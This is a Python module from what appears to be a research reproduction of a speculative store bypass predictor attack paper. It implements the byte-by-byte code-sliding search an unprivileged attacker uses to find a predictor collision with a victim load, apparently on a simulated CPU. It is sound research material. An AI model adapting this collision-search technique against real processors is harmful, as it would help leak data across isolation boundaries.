"""Unprivileged code-sliding collision search (paper Fig 3, Section IV-B).

To attack a victim load, the attacker needs its own stld whose load IPA
hashes to the victim load's predictor entry.  Without physical-address
access, the attacker slides its probe code byte by byte through its own
executable pages; after the target entry's C3 is charged, a colliding
probe shows the sticky (type F) timing on a non-aliasing run, any other
probe shows the bypass (type H) timing.

Vulnerability 2: the page-offset bits enter the hash linearly, so every
page contains exactly one colliding offset — at most 4096 attempts, with
the attempt count uniform over the page (the paper's Fig 7 histogram,
mean ~2200).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

from repro.cpu.isa import Program
from repro.errors import CollisionNotFound
from repro.attacks.runtime import AttackerStld

__all__ = ["CollisionResult", "SsbpCollisionFinder"]


@dataclass
class CollisionResult:
    """A found collision: the placed probe and the search cost."""

    program: Program
    iva: int
    attempts: int


class SsbpCollisionFinder:
    """Finds attacker stld placements colliding with a charged entry."""

    def __init__(
        self,
        attacker: AttackerStld,
        recharge: Callable[[], None],
        verify_runs: int = 2,
    ) -> None:
        self.attacker = attacker
        #: Re-charges the target entry's C3 (e.g. by running the victim's
        #: aliasing path, or the attacker's own trained stld).
        self.recharge = recharge
        self.verify_runs = verify_runs

    def find(
        self,
        start_offset: int = 0,
        max_attempts: int | None = None,
    ) -> CollisionResult:
        """Slide byte by byte until a probe shows the sticky timing.

        Non-colliding probes never touch the target entry, so one charge
        lasts the whole scan; a hit is verified with ``verify_runs``
        consecutive sticky observations (each drains C3 by one).
        """
        attacker = self.attacker
        span = attacker.slide_limit - attacker.slide_base
        if max_attempts is None:
            max_attempts = span
        self.recharge()
        attempts = 0
        offset = start_offset
        while attempts < max_attempts and offset <= span:
            attempts += 1
            iva = attacker.slide_base + offset
            program = attacker.place_at(iva)
            if self._is_sticky(program):
                return CollisionResult(program=program, iva=iva, attempts=attempts)
            offset += 1
        scanned = (
            f"offsets {start_offset:#x}-{offset - 1:#x}" if attempts else "no offsets"
        )
        raise CollisionNotFound(
            f"no SSBP collision in {attempts} attempts ({scanned} scanned)"
        )

    def _is_sticky(self, program: Program) -> bool:
        if not self.attacker.robust:
            for _ in range(self.verify_runs):
                if not self.attacker.stalls(program):
                    return False
            # Verification drained C3; restore it for the next consumer.
            self.recharge()
            return True
        # A robust attacker keeps the 1-read screen (the scan's cost per
        # non-colliding offset is unchanged) but confirms a screened hit
        # by majority vote: ``verify_runs`` stalls out of
        # ``2 * verify_runs - 1`` reads instead of ``verify_runs``
        # *consecutive* stalls, so one interference-garbled read cannot
        # reject a true collision.  C3 holds enough charge (<= 32) to
        # absorb the extra drains.
        if not self.attacker.stalls(program):
            return False
        needed = self.verify_runs
        stalls = 1
        reads = 1
        budget = 2 * self.verify_runs - 1 + 1  # screen + confirm reads
        while reads < budget and stalls < needed:
            if budget - reads < needed - stalls:
                return False
            reads += 1
            if self.attacker.stalls(program):
                stalls += 1
        if stalls < needed:
            return False
        self.recharge()
        return True
